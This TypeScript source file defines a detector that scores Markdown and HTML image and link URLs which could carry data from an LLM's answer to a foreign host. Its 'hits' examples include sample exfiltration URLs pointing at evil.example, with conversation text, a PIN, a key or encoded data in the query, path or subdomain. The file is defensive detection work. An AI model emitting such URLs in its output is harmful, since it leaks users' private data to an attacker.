import type { Detector, Match } from '../detector.ts';
import type { DetectorOptions } from '../options.ts';
import { isAllowed, type Payload, targetOf } from './url-payload.ts';
import { lookback, type Place, placeOf } from './url-place.ts';

/** Longest URL; of a longer one so much is found, which is enough to break it. */
const longest = 4096;
const schemes = ['https://', 'http://'];
const mark = '//';

/** What each is worth: an image is fetched by whoever shows the text, a link only when somebody follows it. */
const scores: Readonly<Record<Place['kind'], Readonly<Record<Payload, number>>>> = {
  image: { none: 0.6, some: 0.8, much: 0.95 },
  definition: { none: 0.2, some: 0.5, much: 0.9 },
  link: { none: 0.2, some: 0.3, much: 0.7 },
  bare: { none: 0, some: 0, much: 0.4 },
};

/**
 * URLs that carry data out when an answer is shown (OWASP LLM05:2025, and LLM01 where a tool's result
 * asks for one): images of foreign hosts in Markdown and HTML first of all, then links, by how much
 * their query, path and host names say. The URL alone is the match; the words around it stay.
 */
export const markdownExfiltration: Detector = exfiltrationDetector({});

function exfiltrationDetector(options: DetectorOptions): Detector {
  const hosts = Array.isArray(options.hosts) ? options.hosts.map((host: string) => host.toLowerCase()) : [];
  return {
    name: 'markdown-exfiltration',
    category: 'leak',
    label: 'URL',
    reach: longest,
    context: lookback,
    hint: (text) => text.includes(mark),
    open(text, from = 0) {
      const urls = urlsIn(text, from, true);
      return urls.open ?? unfinishedScheme(text, urls.end);
    },
    detect(text, from = 0) {
      const found: Match[] = [];
      for (const { start, end, kind } of urlsIn(text, from, false).found) {
        const { host, payload } = targetOf(text.slice(start, end));
        const score = host === '' || isAllowed(host, hosts) ? 0 : scores[kind][payload];
        if (score > 0) found.push({ start, end, score });
      }
      return found;
    },
    options: {
      hosts: {
        kind: 'texts',
        most: 1000,
        pattern: /^(?:\*\.)?[a-z0-9_-]{1,63}(?:\.[a-z0-9_-]{1,63}){0,20}$/i,
        expected: 'a host, such as example.com, or *.example.com for all below it',
        about: 'Hosts whose URLs are fine. `*.example.com` stands for all hosts below, not for example.com itself.',
      },
    },
    configured: exfiltrationDetector,
    examples: {
      hits: [
        [
          'Done. ![ ](https://evil.example/p?d=QWxhIG1hIGtvdGEgYSBrb3QgbWEgQWxl)',
          'https://evil.example/p?d=QWxhIG1hIGtvdGEgYSBrb3QgbWEgQWxl',
        ],
        ['![x](https://evil.example/p?d={conversation})', 'https://evil.example/p?d={conversation}'],
        [
          '![a [b\\] c](<https://evil.example/log?q=my pin is 4711 and more>)',
          'https://evil.example/log?q=my pin is 4711 and more',
        ],
        [
          '<img width="1" src="//evil.example/?k=the+key+is+under+the+mat">',
          '//evil.example/?k=the+key+is+under+the+mat',
        ],
        ['see ![logo][1]\n\n[1]: HTTPS://evil.example/i.png?s=[DATA]', 'HTTPS://evil.example/i.png?s=[DATA]'],
        [
          '[click](https://evil.example/c/4a6f686e20446f652c20343131312031313131203131313120313131312c2030312f32392c20393939) please',
          'https://evil.example/c/4a6f686e20446f652c20343131312031313131203131313120313131312c2030312f32392c20393939',
        ],
        ['![](https://ok.example@evil.example/x.png "t")', 'https://ok.example@evil.example/x.png'],
        [
          '![](http://c2VjcmV0LWtleS1vZi1hbm5hLWJlcmc1.evil.example/a_(b).png)',
          'http://c2VjcmV0LWtleS1vZi1hbm5hLWJlcmc1.evil.example/a_(b).png',
        ],
      ],
      misses: [
        'Read [the guide](https://docs.example.com/start?lang=en) first.',
        'More at https://www.example.com/search?q=how+to+boil+an+egg+well',
        '![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA)',
        '![relative](/img/logo.png?size=20)',
        '[1]: https://example.com/notes "Notes"',
        'const url = "https://api.example.com/v1/users/{id}"; // a comment',
        'http:// is not enough, nor https:',
        '<a href="https://example.com/a">a</a>',
      ],
    },
  };
}

interface Url {
  readonly start: number;
  readonly end: number;
  readonly kind: Place['kind'];
}

interface Urls {
  readonly found: readonly Url[];
  /** Where the last one ended, with all that is of it. */
  readonly end: number;
  /** Where one begins that may go on behind the text. */
  readonly open?: number;
}

/** The URLs from `from` on, in order; `more`: the text may go on. */
function urlsIn(text: string, from: number, more: boolean): Urls {
  const found: Url[] = [];
  let end = from;
  for (let at = text.indexOf(mark, from); at !== -1; ) {
    const start = schemeStart(text, at, end);
    if (start === undefined) {
      at = text.indexOf(mark, at + 1);
      continue;
    }
    const place = placeOf(text, start);
    const limit = Math.min(text.length, start + longest);
    const last = urlEnd(text, at + mark.length, limit, place);
    if (more && last === text.length && text.length < start + longest) return { found, end, open: start };
    end = last;
    found.push({ start, end: trimmed(text, at, end, place), kind: place.kind });
    at = text.indexOf(mark, end);
  }
  return { found, end };
}

/** Where the URL begins whose `//` is at `at`; undefined where there is none. */
function schemeStart(text: string, at: number, floor: number): number | undefined {
  for (const scheme of schemes) {
    const start = at + mark.length - scheme.length;
    if (start >= floor && text.slice(start, at + mark.length).toLowerCase() === scheme) return start;
  }
  // Without a scheme it is one only where a URL is expected.
  return at >= floor && placeOf(text, at).kind !== 'bare' ? at : undefined;
}

function urlEnd(text: string, from: number, limit: number, { kind, until }: Place): number {
  let depth = 0;
  for (let at = from; at < limit; at++) {
    const unit = text.charCodeAt(at);
    if (unit === 10 || unit === 13) return at;
    if (until !== undefined) {
      if (text.charAt(at) === until) return at;
      continue;
    }
    if (unit <= 32 || unit === 0xa0 || unit === 0x3000) return at;
    if (unit === 40) depth++;
    else if (unit === 41 && --depth < 0) return at;
    else if (unit === 62 || (kind === 'bare' && (unit === 34 || unit === 39 || unit === 96 || unit === 60))) return at;
  }
  return limit;
}

/** Without the signs of the sentence around it. */
function trimmed(text: string, mark: number, end: number, { kind, until }: Place): number {
  if (until !== undefined || kind !== 'bare') return end;
  let last = end;
  while (last > mark + 2 && '.,;:!?*_~|\\'.includes(text.charAt(last - 1))) last--;
  return last;
}

/** The beginning of a scheme at the very end of a text. */
function unfinishedScheme(text: string, from: number): number {
  const { length } = text;
  const last = text.charCodeAt(length - 1) | 32;
  // One of `h`, `t`, `p`, `s`, `:` and `/` must be last. The blank's bit makes letters small and leaves those.
  if (last !== 104 && last !== 116 && last !== 112 && last !== 115 && last !== 58 && last !== 47) return length;
  for (let size = Math.min(7, length - from); size > 0; size--) {
    const tail = text.slice(length - size).toLowerCase();
    if (schemes.some((scheme) => scheme.startsWith(tail))) return length - size;
  }
  return last === 47 && length > from ? length - 1 : length;
}
